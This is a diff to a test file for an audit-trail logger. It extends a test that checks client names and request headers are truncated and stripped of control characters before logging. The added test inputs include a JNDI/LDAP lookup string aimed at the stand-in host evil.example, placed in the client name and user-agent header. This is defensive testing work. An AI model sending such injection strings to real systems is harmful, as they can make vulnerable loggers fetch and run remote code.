@@ -120,13 +120,17 @@ describe('the trail', () => {
 
   it('takes no control characters and no end of text from a client (case A13)', async () => {
     const app = await asMember(world, 'north', 'anna', {
-      client_name: `Diary\r\n\u001b[31m\u2028${'x'.repeat(600)}`,
+      client_name: `Diary\r\n\u001b[31m\u2028\${jndi:ldap://evil.example/a}${'x'.repeat(600)}`,
     });
-    const { requestId } = await app(`Observation?a=%0d%0a${'y'.repeat(5_000)}`);
+    const agent = `\${jndi:ldap://evil.example/a}${'z'.repeat(4_000)}`;
+    const { requestId } = await app(`Observation?a=%0d%0a${'y'.repeat(5_000)}`, {
+      headers: { 'user-agent': agent, 'x-forwarded-for': 'f'.repeat(1_000) },
+    });
     const event = await eventOf(requestId);
     expect(event?.client?.name).toHaveLength(512);
     expect(event?.request?.length).toBeLessThanOrEqual(4_096);
-    expect(JSON.stringify(event)).not.toMatch(/\\r|\\n|\\u001b|\u2028/);
+    expect(event?.address?.length).toBeLessThanOrEqual(64);
+    expect(JSON.stringify(event)).not.toMatch(/\\r|\\n|\\u001b|\u2028|zzz/);
   });
 
   it('has the body of a search by POST beside its URL', async () => {
